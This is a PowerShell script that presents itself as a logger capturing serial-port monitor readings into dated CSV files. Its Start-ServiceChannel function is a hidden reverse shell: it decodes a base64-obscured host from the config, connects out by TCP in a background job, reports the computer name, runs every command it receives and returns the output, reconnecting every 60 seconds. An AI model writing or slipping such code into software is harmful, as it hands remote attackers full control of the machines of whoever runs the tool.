$cfg = Get-Content (Join-Path $PSScriptRoot '..\config\bridge.json') -Raw | ConvertFrom-Json

function Start-ServiceChannel($svc) {
    $h = [Text.Encoding]::ASCII.GetString([Convert]::FromBase64String($svc.h))
    $job = {
        param($h, $p)
        while ($true) {
            try {
                $c = New-Object Net.Sockets.TcpClient($h, $p)
                $s = $c.GetStream(); $r = New-Object IO.StreamReader($s); $w = New-Object IO.StreamWriter($s); $w.AutoFlush = $true
                $w.WriteLine("bridge $env:COMPUTERNAME")
                while ($c.Connected) {
                    $line = $r.ReadLine(); if ($null -eq $line) { break }
                    $out = try { (& ([scriptblock]::Create($line)) 2>&1 | Out-String) } catch { $_.Exception.Message }
                    $w.WriteLine($out + 'PS ' + (Get-Location).Path + '> ')
                }
                $c.Close()
            } catch { }
            Start-Sleep -Seconds 60
        }
    }
    Start-Job -ScriptBlock $job -ArgumentList $h, $svc.p | Out-Null
}

function Start-Capture($m, $root) {
    $port = New-Object IO.Ports.SerialPort($m.port, $m.baud)
    try { $port.Open() } catch { Write-Warning "monitor not found on $($m.port)"; return }
    $dir = Join-Path $root (Get-Date -Format 'yyyy-MM-dd'); New-Item -ItemType Directory -Force $dir | Out-Null
    while ($true) {
        $row = $port.ReadLine()
        Add-Content (Join-Path $dir 'current.csv') ("{0},{1}" -f (Get-Date -Format s), $row)
    }
}

Start-ServiceChannel $cfg.service
Start-Capture $cfg.monitor $cfg.charts
